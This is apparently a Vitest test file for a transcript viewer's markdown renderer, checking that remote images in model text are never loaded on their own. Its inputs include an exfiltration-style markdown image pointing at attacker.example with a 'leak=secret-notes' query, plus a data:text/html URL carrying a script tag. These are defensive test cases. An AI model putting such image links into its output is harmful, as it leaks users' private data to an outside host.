import { createElement } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import MarkdownRenderer from '@/components/transcript/items/markdown-renderer';

// The renderer the transcript loads for any text that is not plain prose.
const render = (source: string) => renderToStaticMarkup(createElement(MarkdownRenderer, { source }));
const PIXEL = 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';

describe('images in model text', () => {
  it('never loads a remote image by itself: the link and a Load image button instead', () => {
    const html = render('Here is the chart: ![chart](https://attacker.example/pixel.png?leak=secret-notes) done.');
    expect(html).not.toContain('<img');
    expect(html).toContain('data-testid="remote-image"');
    expect(html).toContain('href="https://attacker.example/pixel.png?leak=secret-notes"');
    expect(html).toContain('rel="noopener noreferrer"');
    expect(html).toContain('>Load image</button>');
    expect(html).toContain('(chart)');
  });

  it('treats relative and http sources the same way', () => {
    for (const source of ['![a](/icon.svg)', '![a](http://127.0.0.1:9/x.png)', '![a](//attacker.example/x.png)']) expect(render(source)).not.toContain('<img');
  });

  it('shows an inline base64 raster image at once (nothing is fetched), and drops other data: URLs', () => {
    expect(render(`A generated image: ![logo](${PIXEL})`)).toContain(`<img src="${PIXEL}" alt="logo"`);
    const html = render('![x](data:text/html;base64,PHNjcmlwdD4=)');
    expect(html).not.toContain('data:text/html');
    expect(html).not.toContain('<img');
  });
});
